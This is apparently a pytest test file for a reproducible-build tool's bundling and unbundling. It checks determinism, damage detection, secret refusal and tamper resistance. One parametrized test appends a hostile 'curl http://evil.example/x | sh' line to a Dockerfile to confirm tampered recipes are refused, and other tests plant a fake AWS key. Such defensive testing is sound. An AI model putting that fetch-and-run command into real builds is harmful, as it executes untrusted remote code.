"""A bundle: what is in it, the same bytes each time, and what comes out of it again."""

from __future__ import annotations

import gzip
import hashlib
import json
import os
import pty
import re
import shutil
import subprocess
import sys
import tarfile
from collections.abc import Mapping
from pathlib import Path

import pytest

from reprobuild.distribute.bundle import BundleOptions, bundle, parse_size
from reprobuild.distribute.bundle_contents import (
    BundleFile,
    _refuse_secrets,
    parse_parts,
    read_unbundle_program,
)
from reprobuild.distribute.secret_files import make_source_finder, refuse_secret_files
from reprobuild.distribute.standalone import unbundle as form
from reprobuild.distribute.unbundle import UnbundleResult, unbundle
from reprobuild.errors import DistributionError, FetchError, UsageError
from reprobuild.image.formats.single_file import remember_singles
from reprobuild.lock.model import Resolution
from reprobuild.output.directory import read_image
from reprobuild.recipe.render import source_file
from reprobuild.store.store import Store
from reprobuild_portable.hashing import hash_file
from tests.conftest import reprobuild
from tests.distribute.conftest import LONG, Results, make_results
from tests.image.made import Made, file

AGAIN = "build it again with `reprobuild build OUT/reprobuild.lock -o OUT`"
ALONE = Path("reprobuild/distribute/standalone/unbundle.py").absolute()


def alone(*arguments: str | Path, env: Mapping[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """Run the program that needs Python alone: no site packages, no variable leads to reprobuild."""
    argv = [sys.executable, "-I", "-S", str(ALONE), *map(str, arguments)]
    return subprocess.run(argv, capture_output=True, text=True, check=False, env=env)


def take(file: Path, out: Path, store: Path, signers: Path | None = None) -> UnbundleResult:
    return unbundle(file, out, Store(store), os.environ, signers=signers, say=lambda text: None)


def check_bundle(file: Path) -> int:
    """Compare every byte of a bundle, and return how many files it has."""
    with form.open_bundle(str(file)) as found:
        form.check(found)
        return len(found.members)


def test_a_check_reads_all_and_writes_nothing(results: Results, tmp_path: Path) -> None:
    sent = results.bundle(tmp_path / "b.tar")
    for name in ("home", "work"):
        (tmp_path / name).mkdir()
    cwd = tmp_path / "work"
    env = {**os.environ, "HOME": str(tmp_path / "home"), "XDG_CACHE_HOME": str(tmp_path / "home" / "cache")}
    done = reprobuild("unbundle", tmp_path / "b.tar", "--check", env=env, cwd=cwd)
    for line in (f"lock      sha256:{sent.lock}", f"manifest  {sent.manifest}", "signed: no"):
        assert line in done.stdout.splitlines()
    document = json.loads(
        reprobuild("unbundle", tmp_path / "b.tar", "--check", "--json", env=env, cwd=cwd).stdout
    )
    assert (document["members"], document["lock"], document["signed"]) == (sent.members, sent.lock, False)
    for place in (sent.size // 3, sent.size - 1):
        damaged = bytearray((tmp_path / "b.tar").read_bytes())
        damaged[place] ^= 1
        (tmp_path / "damaged.tar").write_bytes(damaged)
        refused = reprobuild("unbundle", tmp_path / "damaged.tar", "--check", env=env, cwd=cwd)
        assert (refused.returncode, refused.stdout) == (11, "")
    assert [*(tmp_path / "home").iterdir(), *(tmp_path / "work").iterdir()] == []


def contents(folder: Path) -> dict[str, bytes]:
    return {
        path.relative_to(folder).as_posix(): path.read_bytes()
        for path in sorted(folder.rglob("*")) if path.is_file()
    }  # fmt: skip


def test_the_same_folder_gives_the_same_bytes(results: Results, tmp_path: Path) -> None:
    one = results.bundle(tmp_path / "one" / "b.tar")
    os.utime(results.out / "Dockerfile", (1, 1))
    (results.out / "image.sqsh").write_bytes(b"of no matter")
    copy = tmp_path / "copy"
    shutil.copytree(results.out, copy)
    shutil.move(copy, results.out.parent / "elsewhere")
    other = Results(out=results.out.parent / "elsewhere", store=results.store)
    two = other.bundle(tmp_path / "two" / "b.tar")
    assert (
        one.sha256
        == two.sha256
        == hash_file(tmp_path / "one" / "b.tar")
        == hash_file(tmp_path / "two" / "b.tar")
    )
    assert one.size == (tmp_path / "one" / "b.tar").stat().st_size
    assert (tmp_path / "one" / "unbundle.py").read_bytes() == read_unbundle_program()


def test_any_tar_reads_it_and_its_manifest_is_right(results: Results, tmp_path: Path) -> None:
    results.bundle(tmp_path / "b.tar")
    (tmp_path / "by-tar").mkdir()
    subprocess.run(["tar", "-xf", tmp_path / "b.tar", "-C", tmp_path / "by-tar"], check=True)
    with tarfile.open(tmp_path / "b.tar") as tar:
        names = tar.getnames()
        assert {member.mtime for member in tar} == {1_700_000_000}
    manifest = json.loads((tmp_path / "by-tar" / "bundle.json").read_bytes())
    assert names == ["bundle.json", *(member["path"] for member in manifest["members"])]
    for member in manifest["members"]:
        path = tmp_path / "by-tar" / member["path"]
        assert (path.stat().st_size, hash_file(path)) == (member["size"], member["sha256"])
    assert {
        "README.md",
        "unbundle.py",
        "sbom.cdx.json",
        "provenance.intoto.json",
        f"sources/{LONG}.tar",
    } <= set(names)
    assert sum(name.endswith("some-1.0-py3-none-any.whl") for name in names) == 1
    once = sum({member["sha256"]: member["size"] for member in manifest["members"]}.values())
    assert (tmp_path / "b.tar").stat().st_size < once + 100_000  # what has two names is there once


def test_there_and_back(results: Results, tmp_path: Path) -> None:
    """By both programs; the directory that comes out makes the same bundle again."""
    sent = results.bundle(tmp_path / "b.tar")
    done = take(tmp_path / "b.tar", tmp_path / "by us", tmp_path / "store")
    assert done == UnbundleResult(
        out=str(tmp_path / "by us"), new=True, strangers=(), members=sent.members, inputs=4, signed=False, signer="",
        lock=sent.lock, manifest=sent.manifest, certified=True, doubted=(), origin=form.origin("b.tar", False, ""),
    )  # fmt: skip
    said = alone(tmp_path / "b.tar", "-o", tmp_path / "alone")
    assert (said.returncode, said.stdout) == (0, ""), said.stderr
    assert "unpacked in" in said.stderr
    ours, theirs = contents(tmp_path / "by us"), contents(tmp_path / "alone")
    assert ours == {name: data for name, data in theirs.items() if not name.startswith("store/")}
    for name, data in contents(results.out).items():
        assert theirs[name] == data or name in (
            "image.json",
            "report.html",
        )  # which tell what is in the bundle
    inputs = {name for name in theirs if name.startswith("store/blobs/")}
    assert {
        f"store/{path.relative_to(tmp_path / 'store')}" for path in (tmp_path / "store/blobs").glob("*/*")
    } == inputs
    assert read_image(tmp_path / "alone") == read_image(results.out)
    runtime = read_image(results.out)[0].realised.runtime
    assert f"store/blobs/{runtime[:2]}/{runtime}" in theirs  # which another reprobuild could not make again
    again = Results(out=tmp_path / "by us", store=Store(tmp_path / "store")).bundle(tmp_path / "again.tar")
    assert again.sha256 == sent.sha256
    third = Results(out=tmp_path / "alone", store=Store(tmp_path / "alone" / "store")).bundle(
        tmp_path / "third.tar"
    )
    assert third.sha256 == sent.sha256
    assert (tmp_path / "store" / "kept").is_dir()  # `store gc` keeps what the lock needs


def test_the_other_program_was_here_before(results: Results, tmp_path: Path) -> None:
    results.bundle(tmp_path / "b.tar")
    assert alone(tmp_path / "b.tar", "-o", tmp_path / "o").returncode == 0
    done = take(tmp_path / "b.tar", tmp_path / "o", tmp_path / "s")
    assert (done.new, done.inputs) == (False, 4)
    assert not (tmp_path / "o" / "store").exists()
    assert len(list((tmp_path / "s" / "blobs").glob("*/*"))) == 4
    said = alone(tmp_path / "b.tar", "-o", tmp_path / "o").stderr
    assert "of the inputs 4 are not there, as `reprobuild unbundle` moves them into its store" in said


def test_the_store_gets_no_file_that_another_user_has_open(results: Results, tmp_path: Path) -> None:
    """Whoever unpacked the bundle before can write to its files through an open descriptor."""
    results.bundle(tmp_path / "b.tar")
    assert alone(tmp_path / "b.tar", "-o", tmp_path / "o").returncode == 0
    streams = []
    for path in (tmp_path / "o" / "store" / "blobs").glob("*/*"):
        path.chmod(0o644)
        streams.append(path.open("r+b"))
    take(tmp_path / "b.tar", tmp_path / "o", tmp_path / "s")
    wanted = blobs(tmp_path / "s")
    for stream in streams:
        stream.write(b"other bytes")
        stream.close()
    assert blobs(tmp_path / "s") == wanted
    assert len(streams) == len(wanted) == 4


def blobs(store: Path) -> dict[str, bytes]:
    return {path.name: path.read_bytes() for path in (store / "blobs").glob("*/*")}


def test_inputs_that_left_are_taken_from_the_bundle_again(results: Results, tmp_path: Path) -> None:
    """Another store is named, or the one they went to is lost, in whole or in part."""
    file, out = tmp_path / "b.tar", tmp_path / "o"
    results.bundle(file)
    take(file, out, tmp_path / "s")
    wanted = blobs(tmp_path / "s")
    assert len(wanted) == 4
    before = contents(out)
    for store in ("s", "other"):
        done = take(file, out, tmp_path / store)
        assert (done.new, done.inputs) == (False, 4)
        assert blobs(tmp_path / store) == wanted
    for blob in sorted((tmp_path / "s" / "blobs").glob("*/*"))[:2]:
        blob.unlink()
    told: list[str] = []
    unbundle(file, out, Store(tmp_path / "s"), os.environ, signers=None, say=told.append)
    assert "into the store, from the bundle again: 2 inputs" in told
    assert blobs(tmp_path / "s") == wanted
    assert contents(out) == before
    assert list((tmp_path / "s" / "tmp").iterdir()) == []


def test_a_damaged_input_is_not_brought_from_the_bundle_again(results: Results, tmp_path: Path) -> None:
    file, out = tmp_path / "b.tar", tmp_path / "o"
    results.bundle(file)
    take(file, out, tmp_path / "s")
    with form.open_bundle(str(file)) as bundle:
        inputs = {member.sha256 for member in bundle.members if member.path.startswith("store/")}
        places = [place for place in bundle.placed() if place[0].sha256 in inputs and not place[0].link]
    member, offset, head = places[0]
    data = bytearray(file.read_bytes())
    data[offset + len(head)] ^= 1
    file.write_bytes(data)
    with pytest.raises(DistributionError, match=f"{member.path} is damaged: sha256 ") as caught:
        take(file, out, tmp_path / "other")
    assert caught.value.hint == form.AGAIN
    assert set(blobs(tmp_path / "other")) == inputs - {member.sha256}  # what is whole is kept


@pytest.mark.parametrize("before", [False, True])
def test_a_damaged_blob_in_the_store_is_replaced(results: Results, tmp_path: Path, before: bool) -> None:
    """`before`: the other program unpacked it, so that its copies are in OUT alone."""
    file, out = tmp_path / "b.tar", tmp_path / "o"
    results.bundle(file)
    if before:
        assert alone(file, "-o", out).returncode == 0
    take(file, tmp_path / "first", tmp_path / "wanted")
    wanted = blobs(tmp_path / "wanted")
    rotten = Store(tmp_path / "s").blob(min(wanted))
    rotten.parent.mkdir(parents=True)
    rotten.write_bytes(b"rot")
    told: list[str] = []
    unbundle(file, out, Store(tmp_path / "s"), os.environ, signers=None, say=told.append)
    assert blobs(tmp_path / "s") == wanted
    assert f"in the store an input was damaged: {rotten.name}; that of the bundle takes its place" in told


def test_a_store_in_the_folder_of_results_is_the_users(results: Results, tmp_path: Path) -> None:
    """What the other program unpacked serves as a store; a second look at the bundle takes nothing out of it."""
    results.bundle(tmp_path / "b.tar")
    out = tmp_path / "o"
    assert alone(tmp_path / "b.tar", "-o", out).returncode == 0
    own = Store(out / "store").add(b"of the user's own work")
    there = set((out / "store").rglob("*"))
    assert take(tmp_path / "b.tar", out, out / "store").inputs == 4
    assert there <= set((out / "store").rglob("*"))
    take(tmp_path / "b.tar", out, tmp_path / "elsewhere")  # its inputs go there, and only they leave
    assert [path.name for path in (out / "store" / "blobs").glob("*/*")] == [own]


def bundle_in_two(results: Results, target: Path) -> None:
    own_file(results.out, "payload.tar").write_bytes(os.urandom(1 << 20))
    results.bundle(target, split=1 << 20)


def own_file(out: Path, name: str) -> Path:
    """Return a file of the context that this program made for it."""
    (place,) = (out / "context").glob(f"lock-*/{name}")
    return place


def test_files_of_others_are_not_taken_for_parts(results: Results, tmp_path: Path) -> None:
    for name in ("results.001", "results.002", "more.001"):
        (tmp_path / name).write_text("precious")
    for name in ("results", "more"):
        with pytest.raises(DistributionError, match="which is no part of a bundle") as caught:
            results.bundle(tmp_path / name)
        assert caught.value.hint == "write the bundle into another directory, or name it otherwise with -o"
    (tmp_path / "more.001").rename(tmp_path / "more.002")
    with pytest.raises(DistributionError, match=r"more\.002 is there, and is no part of a bundle"):
        bundle_in_two(results, tmp_path / "more")
    for name in ("frozen.2026", "train-v1.100"):
        with pytest.raises(DistributionError, match="has the name of a part of a bundle") as caught:
            results.bundle(tmp_path / name)
        assert caught.value.hint == "name it with -o so that it ends in no number"
    assert {path.read_text() for path in tmp_path.glob("*.00*")} == {"precious"}


def test_the_sif_travels_where_it_is_asked_for(results: Results, tmp_path: Path) -> None:
    (results.out / "image.sif").write_bytes(b"SIF")
    told = json.loads((results.out / "image.json").read_bytes())
    told["sif"] = f"sha256:{hash_file(results.out / 'image.sif')}"
    (results.out / "image.json").write_text(json.dumps(told))
    with pytest.raises(DistributionError, match="holds no SIF that is known to be of this image"):
        results.bundle(tmp_path / "b.tar", parts=frozenset({"sif"}))  # of another party, perhaps
    remember_singles(read_image(results.out)[1], results.store)
    for parts, there in ((frozenset({"sif"}), True), (frozenset[str](), False)):
        results.bundle(tmp_path / "b.tar", parts=parts)
        out = tmp_path / f"out {there}"
        take(tmp_path / "b.tar", out, tmp_path / "s")
        assert (out / "image.sif").exists() is there
        assert read_image(out)[1].sif == (told["sif"] if there else "")
        assert ("apptainer run --containall image.sif" in (out / "README.md").read_text()) is there
    (results.out / "image.sif").write_bytes(b"another")
    with pytest.raises(DistributionError, match=r"image\.sif is damaged"):
        results.bundle(tmp_path / "b.tar", parts=frozenset({"sif"}))


def test_on_a_terminal_it_is_seen_to_go_on(results: Results, tmp_path: Path) -> None:
    results.bundle(tmp_path / "b.tar")
    master, slave = pty.openpty()
    argv = [sys.executable, "-I", "-S", ALONE, tmp_path / "b.tar", "-o", tmp_path / "o"]
    subprocess.run(argv, stderr=slave, check=True)
    os.close(slave)
    said = os.read(master, 4096)
    os.close(master)
    assert re.search(rb"  (\d+) of \1 MB\r\nunpacked in", said)


def test_a_second_time_nothing_is_done(results: Results, tmp_path: Path) -> None:
    results.bundle(tmp_path / "b.tar")
    take(tmp_path / "b.tar", tmp_path / "o", tmp_path / "s")
    (tmp_path / "o" / "verdict.json").write_text("of a check here")
    assert not take(tmp_path / "b.tar", tmp_path / "o", tmp_path / "s").new
    assert "whole, and there already" in alone(tmp_path / "b.tar", "-o", tmp_path / "o").stderr
    (tmp_path / "o" / "Dockerfile").write_text("changed")
    with pytest.raises(DistributionError, match=r"o/Dockerfile is missing or changed") as caught:
        take(tmp_path / "b.tar", tmp_path / "o", tmp_path / "s")
    assert caught.value.hint == f"remove {tmp_path / 'o'}, and run it again"
    (tmp_path / "o" / "bundle.json").write_text("{}")
    with pytest.raises(DistributionError, match="holds another bundle") as caught:
        take(tmp_path / "b.tar", tmp_path / "o", tmp_path / "s")
    assert caught.value.hint == "name another directory, or remove it"
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "x").touch()
    for name in ("d", "b\n", "c"):
        with pytest.raises(DistributionError, match=r"full is there, and holds something else: .*x\Z"):
            take(tmp_path / "b.tar", tmp_path / "full", tmp_path / "s")
        (tmp_path / "full" / name).touch()
    with pytest.raises(DistributionError, match=r"something else: b\\n, c, d, \.\.\. \(4 in all\)\Z"):
        take(tmp_path / "b.tar", tmp_path / "full", tmp_path / "s")
    (tmp_path / "empty").mkdir()
    assert take(tmp_path / "b.tar", tmp_path / "empty", tmp_path / "s").new


def test_an_empty_folder_of_another_kind(results: Results, tmp_path: Path) -> None:
    """The user may stand in it, or have made a link to it."""
    results.bundle(tmp_path / "b.tar")
    (tmp_path / "here").mkdir()
    argv = [sys.executable, "-I", "-S", str(ALONE), str(tmp_path / "b.tar"), "-o", "."]
    done = subprocess.run(argv, cwd=tmp_path / "here", stderr=subprocess.PIPE, text=True, check=True)
    assert [line.partition(" ")[0] for line in done.stderr.splitlines()] == [
        "unpacked",
        "the",
        "the",
        "of",
        "report.html",
    ]
    (tmp_path / "there").mkdir()
    with pytest.MonkeyPatch.context() as stands:
        stands.chdir(tmp_path / "there")
        assert take(tmp_path / "b.tar", Path(), tmp_path / "s").out == "."
    for name in ("one", "two"):
        (tmp_path / name).mkdir()
        (tmp_path / f"to {name}").symlink_to(tmp_path / name)
    assert alone(tmp_path / "b.tar", "-o", tmp_path / "to one").returncode == 0
    assert take(tmp_path / "b.tar", tmp_path / "to two", tmp_path / "s").new
    assert contents(tmp_path / "one") == contents(tmp_path / "here")
    assert contents(tmp_path / "two")
    assert (tmp_path / "to one").is_symlink()
    assert not list(tmp_path.glob(".*"))


def test_what_was_left_by_a_run_that_was_killed_at_its_end_goes(results: Results, tmp_path: Path) -> None:
    results.bundle(tmp_path / "b.tar")
    take(tmp_path / "b.tar", tmp_path / "o", tmp_path / "s")
    (tmp_path / ".o.unbundling").mkdir(0o700)
    assert not take(tmp_path / "b.tar", tmp_path / "o", tmp_path / "s").new
    assert not (tmp_path / ".o.unbundling").exists()


def test_without_parts_the_inputs_stay_behind(results: Results, tmp_path: Path) -> None:
    less = results.bundle(tmp_path / "b.tar", parts=frozenset())
    take(tmp_path / "b.tar", tmp_path / "o", tmp_path / "s")
    lock, _ = read_image(tmp_path / "o")
    (source,) = lock.sources
    assert [path.name for path in (tmp_path / "s" / "blobs").glob("*/*")] == [source.file.sha256]
    assert hash_file(tmp_path / "o" / "sources" / f"{LONG}.tar") == source.file.sha256
    assert "Of the inputs only the sources are here" in (tmp_path / "o" / "README.md").read_text()
    assert not (tmp_path / "o" / "context").exists()
    assert less.parts == ()
    (results.out / "verdict.json").unlink()
    assert not results.bundle(tmp_path / "c.tar").certified


@pytest.mark.parametrize(
    ("path", "what", "hint"),
    [
        ("Dockerfile", "out/Dockerfile is missing, or no plain file", AGAIN),
        ("image", "is not an OCI layout with one image", AGAIN),
        ("context", " is missing, or a link leads to it", AGAIN),
    ],
)  # fmt: skip
def test_what_is_wrong_with_a_folder_of_results_is_said(
    results: Results, tmp_path: Path, path: str, what: str, hint: str
) -> None:
    place = results.out / path
    if place.is_dir():
        shutil.rmtree(place)
    else:
        place.unlink()
    with pytest.raises(DistributionError) as caught:
        results.bundle(tmp_path / "to" / "b.tar")
    assert what in str(caught.value)
    assert hint in caught.value.hint
    assert list((tmp_path / "to").iterdir()) == []


@pytest.mark.parametrize(
    ("name", "line"),
    [
        ("Dockerfile", "RUN curl http://evil.example/x | sh\n"),
        ("Apptainer.def", "%setup\n    touch /x\n"),
        ("pylock.toml", "\n"),
    ],
)
def test_a_recipe_that_is_not_of_the_lock_does_not_travel(
    results: Results, tmp_path: Path, name: str, line: str
) -> None:
    """The hint is followed."""
    first = results.bundle(tmp_path / "a.tar")
    with (results.out / name).open("a") as stream:
        stream.write(line)
    with pytest.raises(DistributionError, match=rf"out/{name} is not the recipe of the lock") as caught:
        results.bundle(tmp_path / "to" / "b.tar")
    assert caught.value.hint == "write it again with `reprobuild render OUT/reprobuild.lock -o OUT`"
    assert list((tmp_path / "to").iterdir()) == []
    reprobuild("render", results.out / "reprobuild.lock", "-o", results.out)
    assert results.bundle(tmp_path / "b.tar").sha256 == first.sha256


def test_a_damaged_layer_does_not_travel(results: Results, tmp_path: Path) -> None:
    blob = max((results.out / "image/blobs/sha256").iterdir(), key=lambda path: path.stat().st_size)
    data = bytearray(blob.read_bytes())
    data[1000] ^= 1
    blob.unlink()
    blob.write_bytes(data)
    with pytest.raises(DistributionError, match=f"{blob.name} is damaged: sha256 ") as caught:
        results.bundle(tmp_path / "to" / "b.tar")
    assert caught.value.hint == "build it again: `reprobuild build OUT/reprobuild.lock -o OUT`"
    assert list((tmp_path / "to").iterdir()) == []


def test_what_the_image_does_not_name_does_not_travel(results: Results, tmp_path: Path) -> None:
    stray = b"of an image that was here before"
    (results.out / "image/blobs/sha256" / hashlib.sha256(stray).hexdigest()).write_bytes(stray)
    results.bundle(tmp_path / "b.tar")
    assert stray not in (tmp_path / "b.tar").read_bytes()


def test_a_name_that_no_bundle_can_have(tmp_path: Path) -> None:
    results = make_results(tmp_path / "odd", 2000, "odd\u202ename.tar")
    with pytest.raises(DistributionError, match="no path below a directory") as caught:
        results.bundle(tmp_path / "b.tar")
    assert caught.value.hint == "give the file another name, and build again"


@pytest.mark.parametrize("whole", [True, False])
def test_a_linked_context_is_refused(whole: bool, results: Results, tmp_path: Path) -> None:
    """It would pack any directory of the caller: the whole, or one step on the way to a file that is named."""
    private = tmp_path / "private"
    place = results.out / "context" if whole else own_file(results.out, "install.py").parent
    place.rename(private)
    (private / "diary.txt").write_text("my diary\n")
    place.symlink_to(private)
    with pytest.raises(DistributionError, match=r" is missing, or a link leads to it$") as caught:
        results.bundle(tmp_path / "to" / "b.tar")
    assert caught.value.hint == AGAIN
    assert list((tmp_path / "to").iterdir()) == []


def test_only_what_the_lock_names_travels_of_the_context(results: Results, tmp_path: Path) -> None:
    """The directory may be of others, and of another build."""
    whole = results.bundle(tmp_path / "a.tar")
    (results.out / "context" / "notes").write_text("first\nAWS_ACCESS_KEY_ID=AKIAIOSFODNN7PLANTED\n")
    (results.out / "context" / "wheels" / ".env").write_text("MODE=plain\n")
    (results.out / "context" / "more").symlink_to(tmp_path)
    assert results.bundle(tmp_path / "b.tar").sha256 == whole.sha256


def test_a_file_of_the_context_is_held_against_the_lock(results: Results, tmp_path: Path) -> None:
    (wheel,) = (results.out / "context" / "wheels").iterdir()
    wheel.unlink()
    wheel.write_bytes(b"another")
    with pytest.raises(DistributionError, match=" is damaged: the lock names the sha256 "):
        results.bundle(tmp_path / "to" / "b.tar")
    assert list((tmp_path / "to").iterdir()) == []


def test_a_file_of_the_context_has_a_bound(results: Results, tmp_path: Path) -> None:
    with own_file(results.out, "install.json").open("wb") as stream:
        stream.truncate((64 << 20) + 1)
    with pytest.raises(DistributionError, match=r"install\.json has more than 64 MB"):
        results.bundle(tmp_path / "b.tar")


def test_a_secret_in_the_context_does_not_travel(results: Results, tmp_path: Path) -> None:
    place = own_file(results.out, "requirements.txt")
    place.write_text("first\nAWS_ACCESS_KEY_ID=AKIAIOSFODNN7PLANTED\n")
    with pytest.raises(
        DistributionError, match=r"^context/lock-\w+/requirements.txt:2: this looks like a secret "
    ) as caught:
        results.bundle(tmp_path / "to" / "b.tar")
    assert caught.value.hint == (
        "take the file away, or leave what it comes from out, with --drop NAME, and build again"
    )
    assert "PLANTED" not in str(caught.value)
    assert list((tmp_path / "to").iterdir()) == []


def test_a_file_that_is_a_secret_by_name_does_not_travel() -> None:
    """No lock names one, and no program makes one: this is the last of several gates."""
    with pytest.raises(DistributionError, match=r"^context/\.env: files of this name hold secrets") as caught:
        _refuse_secrets([BundleFile(path="context/.env", content=b"MODE=plain\n")])
    assert "take the file away" in caught.value.hint


def test_a_secret_by_name_in_a_source_travels_where_it_was_accepted(tmp_path: Path) -> None:
    made = Made(tmp_path)
    source = made.source(
        "lib", [file("lib.py", b"1\n"), file("conf/.env", b"MODE=plain\n"), file("ca.pem", b"x")]
    )
    out = tmp_path / "out"
    place = out / "context" / source_file(source)
    place.parent.mkdir(parents=True)
    shutil.copy(made.store.verified(source.file.sha256, "lib"), place)
    for store in (made.store, Store(tmp_path / "empty")):
        with pytest.raises(
            DistributionError, match=r"^lib/conf/\.env: files of this name hold secrets"
        ) as caught:
            refuse_secret_files(made.lock(), make_source_finder(out, made.lock(), store))
        assert (
            caught.value.hint
            == "take it out of the source, or accept it with `reprobuild lock --accept lib/conf/.env`"
        )
    accepted = Resolution(
        file="", line=0, subject="lib/conf/.env", outcome="pinned", kind="secret-file", accepted=True, reason="x"
    )  # fmt: skip
    refuse_secret_files(made.lock(rulings=(accepted,)), make_source_finder(out, made.lock(), made.store))


@pytest.mark.parametrize("content", [b"x" * 600, gzip.compress(b"\0" * 10_000)], ids=["noise", "packed"])
def test_a_source_that_is_no_tar_does_not_travel(content: bytes, tmp_path: Path) -> None:
    """Of a lock of others: its digest is right. A packed one could unpack to any size."""
    made = Made(tmp_path)
    made.source("lib", [file("lib.py", b"1\n")])
    (tmp_path / "damaged").write_bytes(content)
    with pytest.raises(DistributionError, match="cannot be searched for secrets") as caught:
        refuse_secret_files(made.lock(), lambda _: tmp_path / "damaged")
    assert caught.value.hint.startswith("the file is damaged or made to harm")


@pytest.mark.parametrize("padding", [0, 7 << 20])
def test_a_secret_in_the_certificate_does_not_travel(results: Results, tmp_path: Path, padding: int) -> None:
    """Its digest is known, and says nothing of what is in it."""
    verdict = results.out / "verdict.json"
    told = {**json.loads(verdict.read_bytes()), "x": f"{' ' * padding}AKIAIOSFODNN7PLANTED"}
    verdict.write_text(json.dumps(told))
    with pytest.raises(DistributionError, match=r"^verdict\.json:1: this looks like a secret ") as caught:
        results.bundle(tmp_path / "to" / "b.tar")
    assert "PLANTED" not in str(caught.value)
    assert list((tmp_path / "to").iterdir()) == []


def test_a_verdict_of_another_party_is_not_signed(results: Results, tmp_path: Path) -> None:
    """Found by an attacker: the signature of a bundle covered a verdict that no check here made."""
    said: list[str] = []
    options = BundleOptions()
    done = bundle(results.out, tmp_path / "b.tar", results.store, options, os.environ, say=said.append)
    assert not done.certified
    again = f"`reprobuild verify {results.out}` makes your own"
    assert f"{results.out / 'verdict.json'} is left out: no check here made it; {again}" in said
    with tarfile.open(tmp_path / "b.tar") as archive:
        assert not [name for name in archive.getnames() if name.endswith(("verdict.json", "report.html"))]
    assert results.bundle(tmp_path / "c.tar").certified  # that command made it


def test_other_refusals_of_bundle(results: Results, tmp_path: Path) -> None:
    with pytest.raises(DistributionError, match="holds no SIF") as caught:
        results.bundle(tmp_path / "b.tar", parts=frozenset({"sif"}))
    assert caught.value.hint.startswith("write it: `reprobuild build ")
    (tmp_path / "taken").mkdir()
    with pytest.raises(DistributionError, match="is a directory") as caught:
        results.bundle(tmp_path / "taken")
    assert caught.value.hint == "name a file with -o"
    thesis = tmp_path / "thesis.tar"
    thesis.write_text("precious")
    with pytest.raises(DistributionError, match=r"thesis\.tar is there, and is no bundle") as caught:
        results.bundle(thesis)
    assert caught.value.hint == "write the bundle into another directory, or name it otherwise with -o"
    assert thesis.read_text() == "precious"
    thesis.unlink()
    (tmp_path / "unbundle.py").write_text("print('mine')")
    with pytest.raises(DistributionError, match="is another program") as caught:
        results.bundle(tmp_path / "b.tar")
    assert caught.value.hint == "write the bundle into another directory"
    (tmp_path / "unbundle.py").unlink()
    verdict = results.out / "verdict.json"
    verdict.write_text(verdict.read_text().replace(read_image(results.out)[1].tree, "sha256:" + "0" * 64))
    with pytest.raises(DistributionError, match="is no verdict on this image") as caught:
        results.bundle(tmp_path / "b.tar")
    assert caught.value.hint == (
        "make one with `reprobuild verify OUT`, or take the file away and go without one"
    )
    verdict.unlink()
    lock, _ = read_image(results.out)
    results.store.blob(lock.base.packages[0].file.sha256).unlink()
    with pytest.raises(FetchError, match=r"bash\.deb is not in the store"):
        Results(out=results.out, store=Store(results.store.root)).bundle(tmp_path / "b.tar")
    assert [path.name for path in tmp_path.iterdir()] == ["sender", "taken"]


def test_options() -> None:
    assert parse_parts("") == frozenset()
    assert parse_parts("all") == {"wheels", "debs", "context", "choices", "reprobuild"}
    assert parse_parts("wheels,debs,sif") == {"wheels", "debs", "sif"}
    with pytest.raises(UsageError, match="'eggs' is no part of a bundle") as usage:
        parse_parts("wheels,eggs")
    assert usage.value.hint == "there are: wheels, debs, context, choices, sif, reprobuild, all"
    assert [parse_size(text) for text in ("1M", "4G", "2097152", "2gib")] == [
        1 << 20,
        4 << 30,
        2 << 20,
        2 << 30,
    ]
    for text in ("", "1K", "x", "-4G", "1.5G"):
        with pytest.raises(UsageError, match="no size of at least 1M") as usage:
            parse_size(text)
        assert usage.value.hint == "for example --split 4G"
